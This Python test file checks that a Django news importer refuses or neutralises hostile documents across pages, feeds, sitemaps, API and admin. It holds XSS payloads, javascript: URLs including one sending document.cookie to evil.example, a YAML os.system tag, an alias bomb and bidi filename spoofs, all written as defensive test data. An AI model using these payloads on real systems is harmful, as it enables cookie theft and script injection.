"""Hostile documents end to end: from files through the import to every place they are shown.

The corpus is `tests/data/hostile/` (its README lists each file and what must become of it),
plus a few documents too large to commit, written here. The whole folder is imported with
the real command; each document is either refused with one clear line (`path:line: what is
wrong`) and leaves nothing behind, or imported and then, once published, inert on the
public pages, feeds, sitemaps, API and desk: no tag, handler or `javascript:` link of its
own survives, no control character reaches a response, and no bidi override reorders a title.

`test_security.py` does the same for content made by factories; `test_import_errors.py`
pins the import's messages one malformed document at a time.
"""

import re
import shutil
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import feedparser
import pytest
from django.utils import timezone

from articles.importing.parse import parse_document
from articles.importing.records import ArticleRecord, DocumentError
from articles.models import Article, ArticleTopic, Image, Provider, RelatedItem, Topic
from articles.templatetags.newsroom import ALLOWED_TAGS

from .conftest import DATA, run_import
from .factories import ArticleFactory, TopicFactory
from .test_security import assert_inert

pytestmark = pytest.mark.django_db

HOSTILE = DATA / "hostile"
MAX = 1 << 20

NOT_HTTP = "is not an http(s) URL; only http:// and https:// links are accepted"
# Each refused document: the line its message names, and the message.
REJECTED = {
    "alias-bomb.md": (
        15,
        "YAML aliases (*name) are not allowed; write the value out in full instead of *lol0",
    ),
    "bidi-override-in-url.md": (
        5,
        "webUrl contains the invisible bidirectional control U+202E; remove it",
    ),
    "data-url-image.md": (
        11,
        f"images[0].url 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' {NOT_HTTP}",
    ),
    "deeply-nested.md": (14, "the YAML nests more than 50 levels deep; flatten it"),
    "deeply-nested-block.md": (64, "the YAML nests more than 50 levels deep; flatten it"),
    "deeply-nested-list-body.md": (
        10,
        "the body nests lists and quotes 1000 levels deep; the limit is 20: flatten the list",
    ),
    "javascript-url.md": (
        5,
        f"webUrl 'JavaScript:alert(document.cookie)//https://hostile.example/' {NOT_HTTP}",
    ),
    "lone-surrogate-bytes.txt": (
        2,
        "the file is not valid UTF-8 (byte 0xed at offset 24, the encoding of half of a "
        "UTF-16 surrogate pair, which is not a character); save it as UTF-8",
    ),
    "lone-surrogate-escape.md": (
        2,
        "invalid YAML: the escape \\ud800 is half of a UTF-16 surrogate pair or past "
        "U+10FFFF, not a character; write the character itself, or one escape such as "
        "\\U0001F600 for a character beyond U+FFFF",
    ),
    "null-byte.md": (3, "the file contains a NUL byte; remove it (is it a text file?)"),
    "provider-logo-offsite-path.md": (
        11,
        f"provider.images[0].url '/\\\\evil.example/logo.png' {NOT_HTTP}",
    ),
    "python-tag.md": (
        7,
        "the YAML tag 'tag:yaml.org,2002:python/object/apply:os.system' is not supported "
        "here; use plain text, numbers, true/false, dates, lists and mappings",
    ),
    "raw-control-character.md": (
        2,
        "invalid YAML: the unprintable character U+001B is not allowed; remove it",
    ),
    "related-javascript-url.md": (
        12,
        "related[0].webUrl \"javascript:fetch('//evil.example/?c='+document.cookie)\" " + NOT_HTTP,
    ),
    # Written by the test (see write_generated).
    "huge-title.md": (2, "title is 500,000 characters long; the limit is 500: shorten it"),
    "oversized-file.md": (
        None,
        f"the file is {MAX + 1:,} bytes; the limit is {MAX:,} (NEWSROOM_IMPORT_MAX_BYTES): "
        "split it or raise the limit",
    ),
    "too-many-related.md": (4, "related has 1,001 items; the limit is 1,000"),
}
# Each imported document: its title as stored (None: as written in the file).
ACCEPTED = {
    "control-characters.md": "Bell, escape[31m red, CSI, DEL, carriage return, form feed, "
    "next line, noncharacters end",
    "event-handler-in-excerpt.md": None,
    "hostile-image-and-related.md": None,
    "html-entities.md": "&lt;script&gt;alert('entities')&lt;/script&gt; &amp; friends",
    "markdown-raw-html.md": None,
    "plain-text-with-markup.txt": "<script>alert('plain')</script> An in-house note with a bell",
    "provider-name-markup.md": None,
    "rtl-override.md": "Quarterly report fdp.exe",
    "script-in-title.md": "<script>alert('title')</script> Robots learn to write "
    "</title><svg onload=alert('svg')>",
    "topic-name-markup.md": None,
    "unknown-key-markup.md": None,
    "zero-width-homoglyph-slug.md": "\u03a1aypal\u200b security\u200d \u2060alert",
    "huge-excerpt.md": None,  # written by the test
}
# Imported, with the fields that lost control or bidi characters on the way (reported).
CLEANED = {
    "control-characters.md": "title, excerpt, provider.name, topics",
    "plain-text-with-markup.txt": "text",
    "rtl-override.md": "title, provider.name, topics, related[0].title",
}
HUGE_EXCERPT = 400_000

# C0 and C1 controls (but tab, newline and carriage return, which HTML and JSON hold between
# tags and values), DEL and the noncharacters XML cannot carry.
CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff]")
BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")
# The one bidi control a response may hold: the balanced isolate the rtl-override excerpt
# keeps around a Hebrew word (excerpts keep them; titles and names lose them).
ISOLATED_WORD = "\u2067\u05e9\u05dc\u05d5\u05dd\u2069"
SPOOF = "\u202efdp.exe"
SCHEMES = re.compile(r"^\s*(javascript|vbscript|data|livescript):", re.IGNORECASE)


def write_generated(folder) -> None:
    """The documents too large to commit: a 500 kB title, a file over the size limit, a
    related list over the item limit (all refused), and a 400 kB excerpt (imported)."""
    head = "---\ntitle: "
    tail = '\nwebUrl: "https://hostile.example/{}"\npublishedDateTime: 2024-03-01T10:00:00Z\n'
    (folder / "huge-title.md").write_text(
        head + '"' + "x" * 500_000 + '"' + tail.format("huge-title") + "---\n"
    )
    oversized = head + '"Over the limit"' + tail.format("oversized-file") + "---\n"
    (folder / "oversized-file.md").write_text(oversized + "x" * (MAX + 1 - len(oversized)))
    items = "".join(
        f'  - title: "Item {n}"\n    webUrl: "https://related.example/{n}"\n' for n in range(1001)
    )
    (folder / "too-many-related.md").write_text(
        head + '"Too many related items"\nwebUrl: "https://hostile.example/too-many-related"\n'
        f"related:\n{items}---\n"
    )
    (folder / "huge-excerpt.md").write_text(
        head
        + '"A huge excerpt"\nexcerpt: "'
        + "Long <b onclick=alert('huge')>words</b> " * (HUGE_EXCERPT // 40)
        + '"'
        + tail.format("huge-excerpt")
        + "provider:\n  name: Hostile Wire\n  domain: hostile.example\n"
        + "topics:\n  - Hostile input\n---\n"
    )


@pytest.fixture
def corpus(tmp_path, settings):
    settings.NEWSROOM_IMPORT_MAX_BYTES = MAX
    folder = tmp_path / "hostile"
    shutil.copytree(HOSTILE, folder, ignore=shutil.ignore_patterns("README.md"))
    write_generated(folder)
    assert {p.name for p in folder.iterdir()} == set(REJECTED) | set(ACCEPTED)
    return folder


@pytest.fixture
def imported(corpus):
    run = run_import(corpus)
    return corpus, run


@pytest.fixture
def published(imported):
    """Every imported article published, dated now (so that the news sitemap lists it)."""
    Article.objects.update(is_published=True, published_at=timezone.now())
    return list(Article.objects.order_by("pk"))


# --- the import --------------------------------------------------------------------------


def test_each_refused_document_gets_one_line_naming_it_and_the_others_import(imported):
    folder, run = imported

    assert run.failed
    created = len(ACCEPTED)
    assert f"{created} created, 0 updated, 0 unchanged, 0 skipped, {len(REJECTED)} failed" in (
        run.error
    )
    lines = [line for line in run.stderr.splitlines() if line.strip()]
    expected = [
        f"{folder / name}:{line}: {message}" if line else f"{folder / name}: {message}"
        for name, (line, message) in REJECTED.items()
    ] + [f"{folder / name}: removed control characters from {f}" for name, f in CLEANED.items()]
    assert sorted(lines) == sorted(expected)


def test_refused_documents_leave_nothing_behind(imported):
    paths = Article.objects.values_list("source_path", flat=True)
    assert sorted(Path(path).name for path in paths) == sorted(ACCEPTED)
    # Nor any row of their children: the related item's provider, the images and links.
    assert not Provider.objects.filter(domain="evil.example").exists()
    assert not Image.objects.filter(url__startswith="data:").exists()
    assert not Image.objects.filter(url__contains="\\").exists()
    assert not RelatedItem.objects.filter(web_url__icontains="javascript").exists()
    assert not RelatedItem.objects.filter(title__startswith="Item ").exists()


def test_imported_documents_are_stored_as_text_without_controls_or_overrides(imported):
    by_path = {Path(a.source_path).name: a for a in Article.objects.all()}
    for name, title in ACCEPTED.items():
        if title is not None:
            assert by_path[name].title == title, name

    texts = [
        *Article.objects.values_list("title", "provider_name", "category", "type"),
        *Topic.objects.values_list("name"),
        *Provider.objects.values_list("name", "domain"),
        *RelatedItem.objects.values_list("title", "provider_name"),
        *Image.objects.values_list("title"),
    ]
    for text in (value for row in texts for value in row):
        assert not CONTROLS.search(text) and not BIDI.search(text), repr(text)

    controls = by_path["control-characters.md"]
    assert controls.excerpt == (
        "Tabs\tand\nnewlines stay; the terminal colour [1;31mcode[0m and the backspace go."
    )
    assert controls.provider_name == "Control Wire"
    assert controls.topics.get().name == "Control characters"
    rtl = by_path["rtl-override.md"]
    assert rtl.provider_name == "Evil Corp"
    assert rtl.topics.get().name == "Override topic"
    assert rtl.related_items.get().title == "Related gnp.exe"
    assert ISOLATED_WORD in rtl.excerpt  # prose keeps its isolates

    # Slugs are ASCII whatever the title holds: no look-alike or invisible character makes
    # an address that reads as another.
    for model in (Article, Topic, Provider):
        for slug in model.objects.values_list("slug", flat=True):
            assert re.fullmatch(r"[a-z0-9-]+", slug), (model, slug)
    homoglyph = by_path["zero-width-homoglyph-slug.md"]
    assert homoglyph.slug == "aypal-security-alert"
    assert homoglyph.provider.domain == "g\u043e\u043egle.example"  # as given, its own row
    assert by_path["huge-excerpt.md"].excerpt.startswith("Long <b onclick=")
    assert len(by_path["huge-excerpt.md"].excerpt) >= HUGE_EXCERPT - 40
    unknown = by_path["unknown-key-markup.md"]
    assert unknown.extra == {
        "<script>alert('key')</script>": "<img src=x onerror=alert('value')>",
        "notes": {"<b>": "<i onclick=alert('nested')>nested</i>"},
    }


# --- what readers, feed readers, API clients and editors see -------------------------------


class Tags(HTMLParser):
    """The elements a browser would build, and the text of style elements."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.styles = ""
        self.in_style = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        self.in_style = self.in_style or tag == "style"

    def handle_endtag(self, tag):
        self.in_style = self.in_style and tag != "style"

    def handle_data(self, data):
        if self.in_style:
            self.styles += data


def assert_no_markup_of_theirs(html: str, where: str, *, desk: bool = False) -> None:
    """No element or attribute a document brought is live in `html`.

    Scripts: the public pages have only their JSON-LD block, the desk only its own files.
    """
    for tag, attrs in Tags(html).tags:
        assert not [name for name in attrs if name.startswith("on")], (where, tag, attrs)
        assert tag not in ("iframe", "object", "embed", "base", "math"), (where, tag)
        # The desk draws its icons from an inline SVG sprite of Django's; the public pages
        # have no SVG of their own.
        assert tag != "svg" or desk, where
        if tag == "script":
            own = attrs.get("src", "").startswith(("/static/", "/admin/jsi18n/"))
            assert own if desk else attrs.get("type") == "application/ld+json", (where, attrs)
        if tag == "meta":
            assert "refresh" not in attrs.get("http-equiv", "").lower(), (where, attrs)
        for name in ("href", "src", "action", "formaction", "data", "srcset", "poster"):
            assert not SCHEMES.match(attrs.get(name, "")), (where, tag, attrs)
        if tag == "img":
            assert attrs.get("src", "").startswith(("https://", "http://", "/")), (where, attrs)
    assert "alert(" not in Tags(html).styles, where


def assert_no_controls_or_overrides(text: str, where: str) -> None:
    """No control character reaches a response, and the only bidi controls are the isolate
    an excerpt keeps: titles, names and topics have none left to reorder a line with."""
    assert not CONTROLS.search(text), (where, CONTROLS.search(text).group())
    assert not BIDI.search(text.replace(ISOLATED_WORD, "")), where
    assert SPOOF not in text, where


def get_page(client, url: str, *, desk: bool = False) -> str:
    response = client.get(url)
    assert response.status_code == 200, url
    html = response.content.decode()
    assert_no_markup_of_theirs(html, url, desk=desk)
    assert_no_controls_or_overrides(html, url)
    if not desk:
        assert_inert(html)  # test_security's rule as well
    return html


def test_public_pages_show_the_documents_inert(client, published):
    topics = list(Topic.objects.all())
    providers = list(Provider.objects.all())
    urls = [
        "/",
        "/topics/",
        "/providers/",
        *(article.get_absolute_url() for article in published),
        *(topic.get_absolute_url() for topic in topics),
        *(provider.get_absolute_url() for provider in providers),
        "/search/?q=alert",
        "/search/?q=script",
        "/search/?q=" + "%3Cscript%3Ealert(1)%3C/script%3E%22%20onmouseover%3D%22alert(2)",
    ]
    pages = {url: get_page(client, url) for url in urls}

    # The payloads are shown, as text: escaped, not dropped.
    home = pages["/"]
    assert "&lt;script&gt;alert(&#x27;title&#x27;)&lt;/script&gt; Robots" in home
    assert "&amp;lt;script&amp;gt;alert(" in home  # an entity stays the entity's text
    markdown = Article.objects.get(source_key__endswith="/markdown-raw-html")
    page = pages[markdown.get_absolute_url()]
    assert 'href="https://example.com/fine"' in page  # the body is rendered, links and all
    huge = Article.objects.get(source_key__endswith="/huge-excerpt")
    assert pages[huge.get_absolute_url()].count("Long &lt;b onclick=") >= HUGE_EXCERPT // 40


def test_feeds_are_well_formed_and_their_text_opens_no_tag(client, published):
    paths = ["/feed/", "/feed/atom/"]
    paths += [f"{topic.get_absolute_url()}feed/" for topic in Topic.objects.all()]
    for path in paths:
        response = client.get(path)
        assert response.status_code == 200, path
        assert_no_controls_or_overrides(response.content.decode(), path)
        # Unsanitised: what a reader that trusts the feed would render.
        feed = feedparser.parse(response.content, sanitize_html=False)
        assert not feed.bozo, (path, feed.get("bozo_exception"))
        assert feed.entries, path
        assert Tags(feed.feed.title).tags == [], path
        for entry in feed.entries:
            texts = [entry.title, entry.get("author", ""), *(t.term for t in entry.get("tags", []))]
            for text in texts:
                assert Tags(text).tags == [], (path, text)
            assert Tags(entry.get("summary", "")).tags == [], (path, entry.title)
    rss = feedparser.parse(client.get("/feed/").content, sanitize_html=False)
    assert len(rss.entries) == len(ACCEPTED)


def test_feeds_stay_well_formed_with_controls_imported_before_they_were_removed(client):
    """Rows imported before the importer removed control characters may hold them: one in
    any item made Django's feed generator refuse the whole feed (a 500)."""
    topic = TopicFactory(name="Bell\x07 topic", slug="bell")
    article = ArticleFactory(
        title="Bell\x07 and \uffff title", excerpt="Escape\x1b[31m", provider_name="Tab\x0bbed"
    )
    ArticleTopic.objects.create(article=article, topic=topic, position=0)
    for path in ["/feed/", "/feed/atom/", "/topics/bell/feed/"]:
        response = client.get(path)
        assert response.status_code == 200, path
        feed = feedparser.parse(response.content, sanitize_html=False)
        assert not feed.bozo, (path, feed.get("bozo_exception"))
        [entry] = feed.entries
        assert (entry.title, entry.summary, entry.author) == (
            "Bell and  title",
            "Escape[31m",
            "Tabbed",
        ), path
        assert [tag.term for tag in entry.tags] == ["Bell topic"], path


def test_sitemaps_are_well_formed_xml(client, published):
    news = "{http://www.google.com/schemas/sitemap-news/0.9}"
    for path in ["/sitemap.xml", "/sitemap-articles.xml", "/sitemap-topics.xml"]:
        response = client.get(path)
        assert response.status_code == 200, path
        ET.fromstring(response.content)
    response = client.get("/sitemap-news.xml")
    assert response.status_code == 200
    assert_no_controls_or_overrides(response.content.decode(), "/sitemap-news.xml")
    titles = [t.text for t in ET.fromstring(response.content).iter(f"{news}title")]
    assert sorted(titles) == sorted(a.title for a in published)


def walk_strings(value):
    if isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from walk_strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from walk_strings(item)
    elif isinstance(value, str):
        yield value


def test_api_gives_text_as_text_and_bodies_sanitised(client, published):
    listed = client.get("/api/v1/articles/", {"page_size": 100})
    assert listed.status_code == 200
    results = listed.json()["results"]
    assert len(results) == len(ACCEPTED)
    details = []
    for article in published:
        response = client.get(f"/api/v1/articles/{article.slug}/")
        assert response.status_code == 200, article.slug
        details.append(response.json())
    for path in ["/api/v1/topics/", "/api/v1/providers/"]:
        response = client.get(path)
        assert response.status_code == 200, path
        details.append(response.json())
    for item in [*results, *details]:
        for text in walk_strings(item):
            assert_no_controls_or_overrides(text, "api")
            assert not SCHEMES.match(text), text  # no URL field holds another scheme
    by_slug = {item["slug"]: item for item in results}
    for article in published:
        item = by_slug[article.slug]
        # Titles and excerpts are JSON strings, exactly as stored: escaping is the client's
        # job, as for any JSON text; `body` is HTML, so it comes sanitised.
        assert item["title"] == article.title
        assert "secured" not in item and "extra" not in item
        assert_no_markup_of_theirs(item["body"], f"api body {article.slug}")
        for image in item["images"]:
            assert image["url"].startswith(("https://", "http://", "/")), image
    body = by_slug[Article.objects.get(source_key__endswith="/markdown-raw-html").slug]["body"]
    assert '<a href="https://example.com/fine" rel="noopener noreferrer nofollow">' in body
    # What is left of the raw HTML and the other links: the sanitiser's tags, and no address.
    tags = Tags(body).tags
    assert {tag for tag, _ in tags} <= ALLOWED_TAGS
    assert [attrs["href"] for tag, attrs in tags if "href" in attrs] == ["https://example.com/fine"]
    plain = Article.objects.get(source_path__endswith="plain-text-with-markup.txt")
    assert by_slug[plain.slug]["body"].startswith("<p>Its body has")


def test_the_desk_shows_the_documents_inert(admin_client, published):
    urls = [
        "/admin/articles/article/",
        "/admin/articles/article/?q=alert",
        "/admin/articles/provider/",
        "/admin/articles/topic/",
        *(f"/admin/articles/article/{article.pk}/change/" for article in published),
        *(f"/admin/articles/provider/{provider.pk}/change/" for provider in Provider.objects.all()),
    ]
    for url in urls:
        get_page(admin_client, url, desk=True)
    unknown = Article.objects.get(source_key__endswith="/unknown-key-markup")
    change = admin_client.get(f"/admin/articles/article/{unknown.pk}/change/").content.decode()
    assert "&lt;img src=x onerror=alert(&#x27;value&#x27;)&gt;" in change  # extra, as text


# --- the pure parser --------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b'---\ntitle: "a \\ud800 b"\n---\n', id="escape-high"),
        pytest.param(b'---\ntitle: "a \\udfff b"\n---\n', id="escape-low"),
        pytest.param(b'---\ntitle: "a \\ud83d\\ude00 b"\n---\n', id="escape-json-pair"),
        pytest.param(b'---\ntitle: "a \\U0000D800 b"\n---\n', id="escape-long-form"),
        pytest.param(b'---\ntopics: ["\\ud800"]\ntitle: a\n---\n', id="escape-in-a-list"),
        pytest.param(b'---\n"k\\udc00": 1\ntitle: a\n---\n', id="escape-in-a-key"),
        pytest.param(b'---\ntitle: "a \xed\xa0\x80 b"\n---\n', id="bytes-in-yaml"),
        pytest.param(b"---\ntitle: a\n---\nbody \xed\xbf\xbf\n", id="bytes-in-body"),
        pytest.param(b"plain \xed\xa0\xbd\xed\xb8\x80 title\n", id="bytes-cesu-8-pair"),
    ],
)
def test_lone_surrogates_are_document_errors_with_their_line(data):
    with pytest.raises(DocumentError, match="surrogate") as error:
        parse_document(data, max_bytes=MAX)
    assert error.value.line is not None


def test_a_surrogate_past_decoding_is_still_a_document_error(monkeypatch):
    """Strict decoding and libyaml let none in; if a later change did, the import must
    still refuse the document rather than fail on encoding it (or PostgreSQL refuse it)."""
    monkeypatch.setattr(
        "articles.importing.parse.build_plain_article",
        lambda text, notes: ArticleRecord(key="title:x", title="x \ud800"),
    )
    with pytest.raises(DocumentError, match="U\\+D800, half of a UTF-16 surrogate pair"):
        parse_document(b"x\n", max_bytes=MAX)


@pytest.mark.parametrize(
    ("body", "line"),
    [
        pytest.param("- " * 21 + "x", 5, id="markers-on-one-line"),
        pytest.param("".join("    " * i + "- x\n" for i in range(25)), 25, id="indented"),
        pytest.param("".join("\t" * i + "1. x\n" for i in range(25)), 25, id="tabs"),
        pytest.param("> " * 15 + "- " * 6 + "x", 5, id="quotes-and-lists"),
    ],
)
def test_markdown_nested_past_the_limit_is_refused_on_its_line(body, line):
    with pytest.raises(DocumentError, match="nests lists and quotes") as error:
        parse_document(f"---\ntitle: T\n---\n\n{body}\n".encode(), max_bytes=MAX)
    assert error.value.line == line


@pytest.mark.parametrize(
    "body",
    [
        pytest.param("".join("    " * i + "- x\n" for i in range(20)), id="twenty-levels"),
        pytest.param("- - - - - - - - - - - - - - - - - - - - - - - - -", id="a-rule"),
        pytest.param("x\n\n" + " " * 400 + "deeply indented code\n", id="code"),
    ],
)
def test_markdown_within_the_limit_is_kept(body):
    parsed = parse_document(f"---\ntitle: T\n---\n{body}".encode(), max_bytes=MAX)
    assert parsed.record.body == body.strip()


def test_the_corpus_readme_lists_every_document():
    readme = (HOSTILE / "README.md").read_text()
    listed = set(re.findall(r"`([\w.-]+\.(?:md|txt))`", readme))
    assert listed == set(REJECTED) | set(ACCEPTED)
